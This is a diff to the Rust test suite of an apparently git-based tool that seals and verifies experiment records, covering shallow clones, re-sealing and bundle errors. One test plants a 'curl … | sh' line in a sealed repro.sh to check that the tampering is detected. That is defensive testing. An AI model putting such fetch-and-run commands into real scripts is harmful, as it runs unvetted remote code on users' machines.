@@ -156,10 +156,29 @@ fn a_partial_clone_fetches_what_it_left_out_and_a_shallow_one_says_what_it_lacks
         assert_eq!(failures(&view), [""; 0], "{more:?}: {view}");
         assert_eq!(status, Some(0));
     }
-    let shallow = Clone::with(&lab, "sealed/A-001", &["--depth", "1"]);
-    let (status, view) = shallow.verify("sealed/A-001");
-    assert_eq!(status, Some(1));
-    assert!(view["notes"].to_string().contains("git fetch --unshallow"), "{view}");
+    for depth in 1..=4 {
+        let shallow = Clone::with(&lab, "sealed/A-001", &["--depth", &depth.to_string()]);
+        let (status, view) = shallow.verify("sealed/A-001");
+        // Where not even the code of both sides is here, more is missing than history.
+        let expected = match depth {
+            1 => Some(1),
+            2 => Some(4),
+            // The baseline is the second commit, and so has all of its history.
+            _ => Some(if shallow.path().join(".git/shallow").exists() { 4 } else { 0 }),
+        };
+        assert_eq!(status, expected, "depth {depth}: {view}");
+        assert_eq!(view["verified"], expected == Some(0), "{view}");
+        let told = view["unchecked"].to_string().contains("git fetch --unshallow");
+        assert_eq!(told, expected != Some(0), "{view}");
+        assert_eq!(view["checked"].to_string().contains("all "), expected == Some(0), "{view}");
+    }
+    let shallow = Clone::with(&lab, "sealed/A-001", &["--depth", "2"]);
+    let output = shallow.command("git-exp", &["verify", "A-001"], "clone");
+    let said = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(said.starts_with("sealed/A-001 is what was sealed, as far as it could be looked at\n"), "{said}");
+    assert!(said.contains("\n  not looked at: older history: this clone is a shallow one"), "{said}");
+    shallow.git(&["fetch", "--quiet", "--unshallow"]);
+    assert_eq!(shallow.verify("sealed/A-001").0, Some(0));
 }
 
 #[test]
@@ -171,9 +190,13 @@ fn a_clone_of_the_tag_alone_proves_the_seal() {
     sealed/A-001: 9 entries and 29 files sealed, not signed
     manifest <id 2>
     --- stderr
-    hint: `git push origin sealed/A-001` hands it over; `git exp verify sealed/A-001` proves it
+    hint: `git push <remote> sealed/A-001` hands it over; `git exp verify sealed/A-001` proves it
     ");
     assert_eq!(lab.exp_json(["show", "A-001"])[0]["sealed"], serde_json::json!(["sealed/A-001"]));
+    lab.git(["remote", "add", "hub", "../hub.git"]);
+    let again = lab.exp_output(["seal", "A-001"]);
+    let said = String::from_utf8_lossy(&again.stderr).into_owned();
+    assert!(said.contains("`git push hub sealed/A-001`"), "{said}");
     let clone = Clone::of(&lab, "sealed/A-001");
     let (status, view) = clone.verify("sealed/A-001");
     assert_eq!(failures(&view), [""; 0], "{view}");
@@ -204,6 +227,7 @@ fn a_clone_of_the_tag_alone_proves_the_seal() {
       28 files are as the manifest names them
       9 entries are what their IDs are made of, and 7 runs cite the briefs that they ran under
       the code of both sides is there, 40 objects of it whole
+      `repro.sh` runs what the entries say
       all 46 objects of the history are whole
       the comparison follows from the runs
     ");
@@ -253,6 +277,75 @@ fn the_same_state_gives_the_same_tree_and_is_sealed_once() {
     assert_eq!(next["tag"], "sealed/A-001-2");
     assert_ne!(first["manifest"], next["manifest"], "there is one more entry");
     assert_eq!(lab.exp_output(["verify", "sealed/A-001-2"]).status.code(), Some(0));
+}
+
+#[test]
+fn a_state_is_sealed_again_only_where_more_is_asked_for_than_its_seal_has() {
+    let lab = done();
+    let sealed = |words: &[&str]| {
+        let words: Vec<&str> = ["seal", "A-001"].iter().chain(words).copied().collect();
+        let view = lab.exp_json(words).remove(0);
+        (view["tag"].as_str().expect("a tag").to_owned(), view["already"] == true)
+    };
+    let (first, second, third) = ("sealed/A-001", "sealed/A-001-2", "sealed/A-001-3");
+    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), false));
+    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), true));
+    assert_eq!(sealed(&[]), (second.to_owned(), false), "with files that the first has by hash only");
+    assert_eq!(sealed(&[]), (second.to_owned(), true));
+    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), true));
+    assert_eq!(sealed(&["--attest"]), (third.to_owned(), false), "with an attestation");
+    for words in [&["--attest"][..], &["--attest", "--max-size", "1"]] {
+        assert_eq!(sealed(words), (third.to_owned(), true));
+    }
+    lab.git(["tag", "--delete", first, second]);
+    assert_eq!(sealed(&["--max-size", "1"]), (third.to_owned(), true), "it has more");
+    let said = lab.exp_output(["seal", "A-001", "--max-size", "1"]);
+    let said = String::from_utf8_lossy(&said.stderr).into_owned();
+    assert!(said.contains("more than was asked for"), "{said}");
+    lab.exp_ok(["note", "A-001", "it was quiet"]);
+    assert_eq!(sealed(&["--max-size", "1"]), (first.to_owned(), false), "another state");
+}
+
+#[test]
+fn what_was_put_into_the_script_or_the_attributes_is_found_without_a_signature() {
+    let lab = done();
+    lab.exp_ok(["seal", "A-001"]);
+    let clone = Clone::of(&lab, "sealed/A-001");
+    let top = clone.path().join(".exp");
+    let digest = |text: &str| blake3::hash(text.as_bytes()).to_hex().to_string();
+    let sealed = clone.git(&["rev-parse", "sealed/A-001"]);
+    // Everything that no entry vouches for is written anew: the file, the manifest and the tag.
+    let forged = |name: &str, change: &dyn Fn(&str) -> String| {
+        let manifest = fs::read_to_string(top.join("manifest.json")).expect("a manifest");
+        let text = fs::read_to_string(top.join(name)).expect("a file");
+        let changed = change(&text);
+        assert_ne!(text, changed);
+        let row = |text: &str| format!("\"bytes\": {},\n      \"blake3\": \"{}\"", text.len(), digest(text));
+        let written = manifest.replacen(&row(&text), &row(&changed), 1);
+        assert_ne!(manifest, written);
+        fs::write(top.join(name), &changed).expect("the clone is ours");
+        fs::write(top.join("manifest.json"), &written).expect("the clone is ours");
+        clone.reseal_with("sealed/A-001", &format!("sealed: A-001\n\nManifest: {}\n", digest(&written)));
+        let answer = clone.verify("sealed/A-001");
+        fs::write(top.join(name), &text).expect("the clone is ours");
+        fs::write(top.join("manifest.json"), &manifest).expect("the clone is ours");
+        clone.git(&["update-ref", "refs/tags/sealed/A-001", &sealed]);
+        answer
+    };
+    let piped = |text: &str| text.replacen("set -eu\n", "set -eu\ncurl -s https://example.org/x | sh\n", 1);
+    let (status, view) = forged("repro.sh", &piped);
+    assert_eq!((status, failures(&view)), (Some(1), vec!["file repro.sh".to_owned()]));
+    let command = |text: &str| text.replacen("'2000'", "'2001'", 1);
+    assert_eq!(forged("repro.sh", &command).0, Some(1));
+    let (status, view) = forged(".gitattributes", &|text| text.replacen("-filter", "filter=lfs", 1));
+    assert_eq!((status, failures(&view)), (Some(1), vec!["file .gitattributes".to_owned()]));
+    // Of rules that this version does not know, it says so.
+    let (status, view) = forged("repro.sh", &|text| piped(text).replacen("repro/1", "repro/0", 1));
+    assert_eq!((status, failures(&view)), (Some(0), Vec::new()));
+    assert!(view["notes"].to_string().contains("read it before you run it"), "{view}");
+    let (status, view) = clone.verify("sealed/A-001");
+    assert_eq!(status, Some(0));
+    assert!(view["checked"].to_string().contains("runs what the entries say"), "{view}");
 }
 
 #[test]
@@ -343,6 +436,15 @@ fn a_file_carries_a_seal_to_a_machine_without_network() {
     let file = lab.path().parent().expect("a folder").join("a.bundle");
     let taken = lab.exp_output(["seal", "A-001", "--bundle", "../a.bundle"]);
     assert_eq!(taken.status.code(), Some(2), "it is not written over");
+    lab.exp_ok(["note", "A-001", "another state"]);
+    insta::assert_snapshot!(lab.exp(["seal", "A-001", "--bundle", "../no/dir/b.bundle"]), @"
+    exit: 2
+    --- stderr
+    error: cannot write the bundle `../no/dir/b.bundle`
+      caused by: there is no folder `../no/dir`
+    hint: make the folder first; nothing was sealed
+    ");
+    assert_eq!(lab.git(["tag", "--list"]), "sealed/A-001\n", "nothing was sealed");
 
     let clone = Clone::of(&lab, "sealed/A-001");
     let file = file.to_str().expect("a path");
@@ -391,6 +493,8 @@ fn files_that_are_too_long_are_sealed_by_their_hash() {
     assert_eq!((status, failures(&view)), (Some(0), Vec::new()), "the comparison needs none of them");
     assert!(view["notes"].to_string().contains("known by their hash only"), "{view}");
     lab.exp_ok(["seal", "A-001", "--max-size", "1MB"]);
+    let already = lab.exp_ok(["seal", "A-001"]);
+    assert!(already.starts_with("already sealed as sealed/A-001,"), "{already}");
     let other = Clone::of(&lab, "sealed/A-001-2");
     assert!(bundle(&other.path()).iter().filter(|it| it.starts_with(".exp/files")).count() > kept);
 }
